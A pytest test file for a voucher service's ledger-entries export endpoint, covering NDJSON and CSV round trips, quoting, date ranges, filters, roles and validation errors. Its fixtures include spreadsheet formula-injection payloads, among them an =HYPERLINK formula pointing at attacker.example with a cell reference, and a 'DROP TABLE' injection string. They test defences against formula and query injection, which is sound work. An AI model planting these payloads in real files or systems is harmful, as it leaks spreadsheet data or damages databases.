"""`GET /v1/exports/ledger-entries`: NDJSON and CSV round trips, date bounds, filters, roles, errors.

The ledger here is written with SQL as the tables' owner (entries at chosen instants, with
memos that CSV and JSON must carry intact), in a database of its own; the service reads
it through the export exactly as the data platform would.
"""

from __future__ import annotations

import uuid
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from typing import Any

import asyncpg
import httpx
import pytest
import pytest_asyncio
from fastapi import FastAPI

from services.vouchers.exports import ENTRY_COLUMNS
from shared.auth import PLATFORM
from shared.dbroles import login_url
from tests.auth import auth
from tests.conftest import DatabaseFactory
from tests.exports.helpers import FORMULA_STARTS, ROLES, as_csv, assert_problem, csv_rows, instant, ndjson

ROUTE = "/v1/exports/ledger-entries"
PLATFORM_HEADERS = auth(PLATFORM, name="data platform")
SHANGHAI_MARCH_1 = datetime(2026, 2, 28, 16, tzinfo=UTC)  # 2026-03-01T00:00:00+08:00
MICROSECOND = timedelta(microseconds=1)

#: memos that a CSV or JSON writer could get wrong
MEMOS: list[str | None] = [
    "plain",
    "comma, separated, values",
    'quote "inside" and "" doubled',
    "line one\nline two",
    "crlf\r\nline",
    "龙岗区算力券，第一期：“中文标点”",
    "emoji 🚀, tab\there, backslash \\ and a control \u0001 character",
    "  padded  ",
    "",
    None,
    "=SUM(A1:A2)",
    "\\N",
    # what a spreadsheet would run as a formula (issue #12): neutralised in CSV, verbatim in NDJSON
    '=HYPERLINK("https://attacker.example/?d="&A1,"查看发票")',
    "+86 755 8888 0000",
    "-1",
    "@SUM(A1:A9)",
    "\tcmd",
    "\r=1+1",
    "a=b, not at the start",
]
#: a vendor's contract number as the issue found it reaching the CSV verbatim
HOSTILE_CONTRACT = '=HYPERLINK("https://attacker.example/","合同 HT-001")'
#: (created_at, kind, memo index) of the entries besides the issue entry
MOMENTS = [
    SHANGHAI_MARCH_1 - timedelta(days=3),
    SHANGHAI_MARCH_1 - MICROSECOND,
    SHANGHAI_MARCH_1,
    SHANGHAI_MARCH_1 + timedelta(hours=12),
    SHANGHAI_MARCH_1 + timedelta(days=1) - MICROSECOND,
    SHANGHAI_MARCH_1 + timedelta(days=1),
    SHANGHAI_MARCH_1 + timedelta(days=2),
]


@pytest.fixture(scope="module")
def ledger_database(databases: DatabaseFactory) -> str:
    return databases.create("exports_ledger")


@pytest_asyncio.fixture(scope="module")
async def ledger(ledger_database: str) -> dict[str, Any]:
    """A small valid ledger: a voucher issued, then redeemed in pieces at chosen instants."""
    connection = await asyncpg.connect(ledger_database)
    try:
        budget = await connection.fetchval(
            "INSERT INTO vouchers.accounts (kind, ref) VALUES ('budget', 'M1:2026') RETURNING id"
        )
        vendor = await connection.fetchval(
            "INSERT INTO vouchers.accounts (kind, ref) VALUES ('vendor_receivable', '91440300708461136T') RETURNING id"
        )
        codes = ["EXPORT-A", "EXPORT-B"]
        vouchers: dict[str, dict[str, Any]] = {}
        for code in codes:
            # a voucher commits with its issue entry (vouchers 0013 checks it at commit)
            async with connection.transaction():
                holding = await connection.fetchval(
                    "INSERT INTO vouchers.accounts (kind, ref) VALUES ('voucher', $1) RETURNING id", code
                )
                hold = await connection.fetchval(
                    "INSERT INTO vouchers.accounts (kind, ref) VALUES ('hold', $1) RETURNING id", code
                )
                decision = uuid.uuid4()
                voucher_id = await connection.fetchval(
                    "INSERT INTO vouchers.vouchers (code, kind, holder, decision_id, year, amount_fen, "
                    "available_fen, held_fen, redeemed_fen, returned_fen, valid_until, account_id, hold_account_id, "
                    "budget_account_id) "
                    "VALUES ($1, 'M1', '9144030071526726XG', $2, 2026, 1000000, 1000000, 0, 0, 0, '2027-12-31', "
                    "$3, $4, $5) RETURNING id",
                    code,
                    decision,
                    holding,
                    hold,
                    budget,
                )
                vouchers[code] = {"id": voucher_id, "account": holding, "decision": decision}
                await connection.execute(
                    "INSERT INTO vouchers.entries (created_at, kind, from_account_id, to_account_id, amount_fen, "
                    "voucher_id, decision_id, actor, request_id, parameters_digest) "
                    "VALUES ($1, 'issue', $2, $3, 1000000, $4, $5, 'officer 王科员', 'req-issue', 'sha256:abc')",
                    SHANGHAI_MARCH_1 - timedelta(days=10),
                    budget,
                    holding,
                    voucher_id,
                    decision,
                )
        for index, moment in enumerate(MOMENTS):
            code = codes[index % 2]
            memo = MEMOS[index % len(MEMOS)]
            await connection.execute(
                "INSERT INTO vouchers.entries (created_at, kind, from_account_id, to_account_id, amount_fen, "
                "voucher_id, contract_ref, actor, request_id, memo) "
                "VALUES ($1, 'redeem', $2, $3, $4, $5, 'HT-001', '91440300708461136T', $6, $7)",
                moment,
                vouchers[code]["account"],
                vendor,
                100 + index,
                vouchers[code]["id"],
                f"req-{index}",
                memo,
            )
        # the rest of the memos, on entries far outside every range below
        for offset, memo in enumerate(MEMOS[len(MOMENTS) :]):
            await connection.execute(
                "INSERT INTO vouchers.entries (created_at, kind, from_account_id, to_account_id, amount_fen, "
                "voucher_id, actor, memo) VALUES ($1, 'redeem', $2, $3, 1, $4, 'x', $5)",
                SHANGHAI_MARCH_1 + timedelta(days=30 + offset),
                vouchers["EXPORT-A"]["account"],
                vendor,
                vouchers["EXPORT-A"]["id"],
                memo,
            )
        await connection.execute(
            "INSERT INTO vouchers.entries (created_at, kind, from_account_id, to_account_id, amount_fen, "
            "voucher_id, contract_ref, actor) VALUES ($1, 'redeem', $2, $3, 7, $4, $5, '91440300708461136T')",
            SHANGHAI_MARCH_1 + timedelta(days=90),
            vouchers["EXPORT-B"]["account"],
            vendor,
            vouchers["EXPORT-B"]["id"],
            HOSTILE_CONTRACT,
        )
        rows = await connection.fetch(
            "SELECT e.*, fa.kind AS from_kind, fa.ref AS from_ref, ta.kind AS to_kind, ta.ref AS to_ref "
            "FROM vouchers.entries e JOIN vouchers.accounts fa ON fa.id = e.from_account_id "
            "JOIN vouchers.accounts ta ON ta.id = e.to_account_id ORDER BY e.id"
        )
        return {"rows": [dict(row) for row in rows], "vouchers": vouchers}
    finally:
        await connection.close()


@pytest_asyncio.fixture(scope="module")
async def vouchers_export_app(ledger_database: str, ledger: dict[str, Any]) -> AsyncIterator[FastAPI]:
    from services.vouchers.app import create_app
    from services.vouchers.settings import VouchersSettings

    app = create_app(
        VouchersSettings(
            database_url=login_url(ledger_database, "vouchers"),  # type: ignore[arg-type]
            sealer_interval_seconds=0,
            eligibility_url="http://127.0.0.1:9",
            registry_url="http://127.0.0.1:9",
        )
    )
    async with app.router.lifespan_context(app):
        yield app


@pytest_asyncio.fixture
async def client(vouchers_export_app: FastAPI) -> AsyncIterator[httpx.AsyncClient]:
    transport = httpx.ASGITransport(app=vouchers_export_app)
    async with httpx.AsyncClient(transport=transport, base_url="http://vouchers", timeout=30) as http:
        yield http


#: which columns are text (neutralised in CSV against formula injection)
TEXT = {column.name: column.kind == "text" for column in ENTRY_COLUMNS}


def expected(row: dict[str, Any]) -> dict[str, Any]:
    """An entry as the export writes it in JSON."""
    record = {column.name: row[column.name] for column in ENTRY_COLUMNS}
    record["created_at"] = row["created_at"].astimezone(UTC)
    record["decision_id"] = None if row["decision_id"] is None else str(row["decision_id"])
    return record


def parsed(record: dict[str, Any]) -> dict[str, Any]:
    return {**record, "created_at": instant(record["created_at"])}


async def test_ndjson_round_trip(client: httpx.AsyncClient, ledger: dict[str, Any]) -> None:
    response = await client.get(ROUTE, headers=PLATFORM_HEADERS)
    records, trailer = ndjson(response)
    assert [parsed(r) for r in records] == [expected(row) for row in ledger["rows"]]
    assert next(list(r) for r in records) == [c.name for c in ENTRY_COLUMNS]  # keys in column order
    assert trailer["kind"] == "ledger-entries"
    assert trailer["rows"] == len(ledger["rows"])
    assert trailer["from"] is None
    assert trailer["to"] is None
    assert trailer["filters"] == {}
    instant(trailer["exported_at"])
    assert response.headers["content-disposition"].startswith('attachment; filename="vouchers-ledger-entries-')
    assert response.headers["content-disposition"].endswith('.ndjson"')
    # every memo survives, exactly
    assert {r["memo"] for r in records} == set(MEMOS)


async def test_csv_round_trip(client: httpx.AsyncClient, ledger: dict[str, Any]) -> None:
    response = await client.get(ROUTE, params={"format": "csv"}, headers=PLATFORM_HEADERS)
    header, rows = csv_rows(response)
    assert header == [c.name for c in ENTRY_COLUMNS]
    assert len(rows) == len(ledger["rows"])
    for row, stored in zip(rows, ledger["rows"], strict=True):
        want = expected(stored)
        assert instant(row.pop("created_at")) == want.pop("created_at")
        assert row == {name: as_csv(value, text=TEXT[name]) for name, value in want.items()}
    assert {row["memo"] for row in rows} == {as_csv(memo, text=True) for memo in MEMOS}
    assert response.headers["content-disposition"].endswith('.csv"')
    assert "header=present" in response.headers["content-type"]


async def test_csv_quoting_is_rfc_4180_and_null_differs_from_empty(
    client: httpx.AsyncClient, ledger: dict[str, Any]
) -> None:
    text = (await client.get(ROUTE, params={"format": "csv"}, headers=PLATFORM_HEADERS)).content.decode()
    assert '"comma, separated, values"' in text
    assert '"quote ""inside"" and """" doubled"' in text
    assert '"line one\nline two"' in text
    assert '"crlf\r\nline"' in text
    assert ",龙岗区算力券，第一期：“中文标点”\n" in text  # nothing to quote: left as is
    by_memo = {row["memo"]: row for row in ledger["rows"]}
    # memo is the last column: NULL is an empty field, the empty string a quoted one
    empty, null = by_memo[""], by_memo[None]
    lines = {line.split(",", 1)[0]: line for line in text.split("\n") if line[:1].isdigit()}
    assert lines[str(empty["id"])].endswith(',""')
    assert lines[str(null["id"])].endswith(",")
    assert not lines[str(null["id"])].endswith('""')


async def test_csv_neutralises_what_a_spreadsheet_would_run_as_a_formula(
    client: httpx.AsyncClient, ledger: dict[str, Any]
) -> None:
    """A vendor's contract number `=HYPERLINK(…)` reached the CSV verbatim (issue #12): a text cell starting with
    `=`, `+`, `-`, `@`, tab or CR gets a `'` in front in CSV; NDJSON and the numbers are left as they are."""
    response = await client.get(ROUTE, params={"format": "csv", "bom": "true"}, headers=PLATFORM_HEADERS)
    _, rows = csv_rows(response, bom=True)
    [hostile] = [row for row in rows if row["contract_ref"].endswith('合同 HT-001")')]
    assert hostile["contract_ref"] == "'" + HOSTILE_CONTRACT
    assert hostile["amount_fen"] == "7"
    memos = {row["memo"] for row in rows}
    for memo in ("=SUM(A1:A2)", "+86 755 8888 0000", "-1", "@SUM(A1:A9)", "\tcmd", "\r=1+1"):
        assert "'" + memo in memos
        assert memo not in memos
    assert "a=b, not at the start" in memos
    assert not any(cell.startswith(FORMULA_STARTS) for row in rows for cell in row.values())
    records, _ = ndjson(await client.get(ROUTE, headers=PLATFORM_HEADERS))
    assert HOSTILE_CONTRACT in {r["contract_ref"] for r in records}  # NDJSON is data, not a spreadsheet
    assert {r["memo"] for r in records} == set(MEMOS)


async def test_csv_with_a_byte_order_mark_for_excel(client: httpx.AsyncClient, ledger: dict[str, Any]) -> None:
    response = await client.get(ROUTE, params={"format": "csv", "bom": "true"}, headers=PLATFORM_HEADERS)
    header, rows = csv_rows(response, bom=True)
    assert header[0] == "id"
    assert len(rows) == len(ledger["rows"])
    # the BOM is for CSV only
    plain = await client.get(ROUTE, params={"bom": "true"}, headers=PLATFORM_HEADERS)
    assert plain.content.startswith(b'{"id":')


@pytest.mark.parametrize(
    ("start", "end"),
    [
        ("2026-03-01", "2026-03-02"),  # Shenzhen days
        ("2026-02-28T16:00:00Z", "2026-03-01T16:00:00Z"),  # the same instants in UTC
        ("2026-03-01T00:00:00+08:00", "2026-03-02T00:00:00+08:00"),  # with an offset
    ],
)
async def test_date_range_is_half_open_in_shanghai_days(
    client: httpx.AsyncClient, ledger: dict[str, Any], start: str, end: str
) -> None:
    response = await client.get(ROUTE, params={"from": start, "to": end}, headers=PLATFORM_HEADERS)
    records, trailer = ndjson(response)
    got = [instant(r["created_at"]) for r in records]
    # the first instant of March 1st is in, the last microsecond of February 28th and the
    # first instant of March 2nd (the exclusive end) are out
    assert got == [
        SHANGHAI_MARCH_1,
        SHANGHAI_MARCH_1 + timedelta(hours=12),
        SHANGHAI_MARCH_1 + timedelta(days=1) - MICROSECOND,
    ]
    assert trailer["from"] == "2026-02-28T16:00:00.000000Z"
    assert trailer["to"] == "2026-03-01T16:00:00.000000Z"
    assert trailer["rows"] == 3


async def test_open_ended_ranges(client: httpx.AsyncClient, ledger: dict[str, Any]) -> None:
    before, _ = ndjson(await client.get(ROUTE, params={"to": "2026-03-01"}, headers=PLATFORM_HEADERS))
    after, _ = ndjson(await client.get(ROUTE, params={"from": "2026-03-01"}, headers=PLATFORM_HEADERS))
    assert max(instant(r["created_at"]) for r in before) == SHANGHAI_MARCH_1 - MICROSECOND
    assert min(instant(r["created_at"]) for r in after) == SHANGHAI_MARCH_1
    assert sorted(r["id"] for r in before + after) == [row["id"] for row in ledger["rows"]]


async def test_filters(client: httpx.AsyncClient, ledger: dict[str, Any]) -> None:
    issues, trailer = ndjson(await client.get(ROUTE, params={"kind": "issue"}, headers=PLATFORM_HEADERS))
    assert [r["kind"] for r in issues] == ["issue", "issue"]
    assert trailer["filters"] == {"kind": "issue"}
    voucher_b = ledger["vouchers"]["EXPORT-B"]["id"]
    of_b, _ = ndjson(await client.get(ROUTE, params={"voucher": "EXPORT-B"}, headers=PLATFORM_HEADERS))
    assert of_b
    assert {r["voucher_id"] for r in of_b} == {voucher_b}
    assert {r["to_ref"] for r in of_b if r["kind"] == "issue"} == {"EXPORT-B"}
    unknown, _ = ndjson(await client.get(ROUTE, params={"voucher": "NO-SUCH"}, headers=PLATFORM_HEADERS))
    assert unknown == []
    # resume after an id: the rest, in order
    ids = [row["id"] for row in ledger["rows"]]
    rest, _ = ndjson(await client.get(ROUTE, params={"after_id": ids[3]}, headers=PLATFORM_HEADERS))
    assert [r["id"] for r in rest] == ids[4:]


@pytest.mark.parametrize(("who", "headers", "status"), ROLES, ids=[r[0] for r in ROLES])
async def test_roles(client: httpx.AsyncClient, who: str, headers: dict[str, str], status: int) -> None:
    response = await client.get(ROUTE, headers=headers)
    assert response.status_code == status, response.text
    if status != 200:
        assert response.headers["content-type"].startswith("application/problem+json")


@pytest.mark.parametrize(
    ("params", "field", "code"),
    [
        ({"from": "yesterday"}, "query.from", "invalid_bound"),
        ({"from": "2026-13-01"}, "query.from", "invalid_bound"),
        ({"to": "2026-03-01T00:00:00"}, "query.to", "instant_without_offset"),
        ({"from": "2026-03-02", "to": "2026-03-01"}, "query.to", "empty_range"),
        ({"from": "2026-03-01", "to": "2026-02-28T16:00:00Z"}, "query.to", "empty_range"),
        ({"format": "xml"}, "query.format", "literal_error"),
        ({"bom": "maybe"}, "query.bom", "bool_parsing"),
        ({"kind": "Redeem; DROP TABLE"}, "query.kind", "string_pattern_mismatch"),
        ({"after_id": "-1"}, "query.after_id", "greater_than_equal"),
        ({"after_id": "1e3"}, "query.after_id", "int_parsing"),
        ({"from": "2026-03-01" * 10}, "query.from", "string_too_long"),
        ({"from": "0001-01-01"}, "query.from", "invalid_bound"),  # before year 1 in UTC
        ({"to": "9999-12-31T23:00:00-14:00"}, "query.to", "invalid_bound"),  # after year 9999 in UTC
        ({"voucher": "EXPORT-A\x00"}, "query.voucher", "invalid_character"),
    ],
)
async def test_invalid_parameters_are_422_problems(
    client: httpx.AsyncClient, params: dict[str, str], field: str, code: str
) -> None:
    body = assert_problem(await client.get(ROUTE, params=params, headers=PLATFORM_HEADERS), 422, "validation_failed")
    assert [(e["field"], e["code"]) for e in body["errors"]] == [(field, code)]


async def test_database_unavailable_before_the_first_byte_is_a_503(ledger_database: str) -> None:
    """The export's own connection cannot be made: problem+json, nothing streamed."""
    from services.vouchers.app import create_app
    from services.vouchers.settings import VouchersSettings

    missing = ledger_database.rsplit("/", 1)[0] + "/no_such_database_for_exports"
    app = create_app(VouchersSettings(database_url=missing, sealer_interval_seconds=0))  # type: ignore[arg-type]
    transport = httpx.ASGITransport(app=app)
    async with httpx.AsyncClient(transport=transport, base_url="http://vouchers") as http:
        response = await http.get(ROUTE, headers=PLATFORM_HEADERS)
    assert_problem(response, 503, "database_unavailable")
    assert response.headers["retry-after"] == "2"
    await app.state.database.dispose()
